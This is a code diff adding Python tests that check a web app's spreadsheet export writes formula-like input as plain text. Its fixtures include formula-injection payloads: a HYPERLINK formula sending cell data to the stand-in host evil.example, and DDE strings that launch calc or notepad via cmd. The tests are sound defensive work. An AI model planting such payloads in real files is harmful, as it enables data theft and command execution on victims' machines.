@@ -300,3 +300,47 @@ def test_the_screens_fit_a_phone(client, bali, sikesda_set):
         page = client.get(url).content.decode()
         assert 'name="viewport"' in page
         assert "<table" not in page  # cards, not wide tables
+
+
+HOSTILE = {
+    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
+    "requirement": "+cmd|' /C calc'!A0",
+    "steps": "-2+3+cmd|' /C notepad'!A0",
+    "input_data": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "expected": "\t=1+1",
+}
+
+
+def assert_formulas_are_text(content: bytes) -> None:
+    """No cell of the workbook is a formula; text starting like one is marked as text and
+    kept as written (the rule of tests/security/test_export_injection.py)."""
+    import zipfile
+
+    from laksana import tabular
+
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
+    book = load_workbook(io.BytesIO(content))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    for cell in cells:
+        assert cell.data_type != "f", cell.coordinate
+        if isinstance(cell.value, str) and cell.value.startswith(tabular.FORMULA_STARTS):
+            assert cell.quotePrefix, cell.coordinate
+    values = [c.value for c in cells]
+    for value in HOSTILE.values():
+        assert value.strip() in [str(v).strip() for v in values if v is not None]
+
+
+def test_the_export_page_writes_formulas_as_text(client, bali):
+    made = scenarios.create_set(
+        bali["kadis"],
+        bali.applications["sikesda"].pk,
+        name='=HYPERLINK("http://evil.example")',
+        scenarios=[login(1, **HOSTILE)],
+    )
+    as_(client, bali["dinkes_staf"])
+    response = client.get(reverse("quality:set_export", args=[made.pk]))
+    assert response.status_code == 200
+    assert_formulas_are_text(response.content)
